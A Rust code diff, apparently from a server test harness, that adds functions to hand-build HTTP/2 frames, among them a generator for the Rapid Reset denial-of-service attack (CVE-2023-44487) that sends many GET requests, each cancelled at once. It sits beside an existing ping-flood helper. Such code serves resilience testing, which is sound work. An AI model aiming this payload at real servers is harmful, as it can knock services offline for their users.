@@ -89,3 +89,29 @@ pub fn ping_flood(preface: bool) -> Vec<u8> {
     }
     flood
 }
+
+/// The header block of `GET http://127.0.0.1{path}`, by hand: `:method
+/// GET` and `:scheme http` from the static table, `:path` and
+/// `:authority` as literals (no Huffman, no dynamic table).
+pub fn h2_get_block(path: &str) -> Vec<u8> {
+    let mut block = vec![0x82, 0x86, 0x04, path.len() as u8];
+    block.extend_from_slice(path.as_bytes());
+    block.extend_from_slice(&[0x01, 9]);
+    block.extend_from_slice(b"127.0.0.1");
+    block
+}
+
+/// Rapid reset (CVE-2023-44487) as a client sends it: the preface, an
+/// empty SETTINGS, then `requests` times a `GET {path}` (HEADERS with
+/// END_STREAM) at once followed by its RST_STREAM(CANCEL).
+pub fn rapid_reset(path: &str, requests: u32) -> Vec<u8> {
+    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+    out.extend(h2_frame(0x4, 0, 0, &[]));
+    let block = h2_get_block(path);
+    for i in 0..requests {
+        let stream = 2 * i + 1;
+        out.extend(h2_frame(0x1, 0x5, stream, &block));
+        out.extend(h2_frame(0x3, 0, stream, &0x8u32.to_be_bytes()));
+    }
+    out
+}
